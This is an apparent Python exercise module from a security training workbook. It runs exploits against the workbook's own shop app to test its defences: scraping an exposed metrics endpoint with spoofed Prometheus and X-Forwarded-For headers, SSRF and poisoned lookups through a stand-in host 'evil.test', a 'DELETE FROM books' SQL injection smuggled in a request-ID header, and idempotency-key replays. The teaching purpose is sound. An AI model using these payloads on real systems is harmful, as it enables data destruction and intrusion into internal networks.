"""What is tried where an app goes to work: the exploits of chapter 9, by the exercise whose defence they try.

    GET /metrics                          how the shop is doing, told to everybody
    X-Request-ID: */ DELETE FROM books -- what was meant for the log, and ends up in the database
    Idempotency-Key: "order-7"            sent, and the connection breaks: was it done, or not?

Nobody attacks a business rule here. What is attacked is what stands around the app: the doors for those who run it, and
what it writes down about its callers.
"""

import re
from urllib.parse import quote

import httpx

from workbook.learn.exploits import Crashed, Loot, Outcome, Stopped, excerpt, expect, exploit, stopped_by
from workbook.learn.shop import Shop

BOOKS = "/api/books"
ORDER = {"title": "One copy of it", "author": "Somebody"}
EMMA = "9780141439587"
A_LIE = '{"title": "Emma\\u202egpj.exe", "author": 7, "isbn": "9780306406157", "publisher": "us"}'
COUNTED = re.compile(r"^books_requests_total\{.*\} \d", re.MULTILINE)


# 9.2 Doors for those who run it ---------------------------------------------------------------------------------------


@exploit("9.2", "API8", "what the app counts, read from outside")
def read_the_counters(shop: Shop) -> Outcome:
    """Which routes there are, how many sign in and fail to, how many buy: a competitor looks each minute."""
    expect(shop.sign_in("alice").get("/api/users/me"))
    attacker = shop.client()
    answer = attacker.get("/metrics", headers={"User-Agent": "Prometheus/3.0.0", "X-Forwarded-For": "127.0.0.1"})
    if counted := COUNTED.findall(answer.text):
        example = next(line for line in answer.text.splitlines() if line.startswith("books_requests_total{"))
        return Loot(f"{len(counted)} series, such as {excerpt(example)}")
    return stopped_by(answer)


# 9.3 Whom the shop asks -----------------------------------------------------------------------------------------------


def looked_up(admin: httpx.Client) -> httpx.Response | None:
    """The answer to a look-up; None where the shop says that there is none to be had (503)."""
    try:
        return admin.get(f"/api/isbn/{EMMA}")
    except Crashed as refusal:
        if "answers 503" not in str(refusal):
            raise
        return None


@exploit(
    "9.3",
    "API10",
    "what another service says",
    settings={"LOOKUP_URL": f"http://evil.test/say?text={quote(A_LIE)}&isbn={{isbn}}"},
)
def lie_about_a_book(shop: Shop) -> Outcome:
    """The service was sold. Its new owners answer each question with what they like."""
    answer = looked_up(shop.sign_in("admin"))
    if answer is None:
        return Stopped("503: that is no answer, and nobody gets to see it")
    said = expect(answer).json()
    return Loot(
        f"an administrator asks for {EMMA}, and is shown {said['title']!r} by {said['author']!r}, {said['isbn']}"
    )


@exploit(
    "9.3",
    "API10",
    "a redirect into the shop's own network",
    settings={"LOOKUP_URL": "http://evil.test/to?url=http://127.0.0.1/&isbn={isbn}"},
)
def send_the_shop_home(shop: Shop) -> Outcome:
    """The address that the operator has set is outside. Where it sends the shop is inside."""
    answer = looked_up(shop.sign_in("admin"))
    if answer is None:
        return Stopped("503: a redirect is not followed")
    expect(answer)
    return Loot("the shop has asked its own till, and taken what it said for a book")


# 9.5 What is written down about callers -------------------------------------------------------------------------------


@exploit("9.5", "API8", "SQL in the name of a request")
def delete_through_the_health_check(shop: Shop) -> Outcome:
    """The header ends the comment in which it stands. What comes next is executed, the rest of the line is none."""
    attacker = shop.client()
    before = books(shop, 1)
    attacker.get("/api/health", headers={"X-Request-ID": "*/ DELETE FROM books --"})
    if lost := before - books(shop, 2):
        return Loot(f"the health check has deleted {lost} of {before} books")
    return Stopped(f"all {before} books are there: what a client says is in no statement")


def books(shop: Shop, size: int) -> int:
    """How many books somebody finds who looks at the catalogue; with another `size` of pages, no cache knows it."""
    listed = expect(shop.client().get("/api/books/by-offset", params={"total": "true", "page_size": size})).json()
    return int(listed["total"])


# 9.7 What is sent again -----------------------------------------------------------------------------------------------


@exploit("9.7", "API6", "one order, two books")
def order_twice(shop: Shop) -> Outcome:
    """The answer was lost, and Redis has been restarted meanwhile. The client does what it was told: it asks again."""
    admin, key = shop.sign_in("admin"), {"Idempotency-Key": '"order-7"'}
    first = expect(admin.post(BOOKS, json=ORDER, headers=key), 201).json()["id"]
    shop.crash_redis()
    again = expect(shop.sign_in("admin").post(BOOKS, json=ORDER, headers=key), 201).json()["id"]
    if again != first:
        return Loot(f"the order stands there twice, as book {first} and as book {again}")
    return Stopped(f"both answers are about book {first}")


@exploit("9.7", "API6", "an order that is taken, and never done")
def lose_an_order(shop: Shop) -> Outcome:
    """A client that names two orders alike has made a mistake. Does anybody tell it?"""
    admin, key = shop.sign_in("admin"), {"Idempotency-Key": '"order-8"'}
    expect(admin.post(BOOKS, json=ORDER, headers=key), 201)
    answer = admin.post(BOOKS, json={**ORDER, "title": "The other order"}, headers=key)
    if answer.status_code == 201:
        return Loot(f"the second order hears 201, and what was made is {answer.json()['title']!r}")
    return stopped_by(answer)
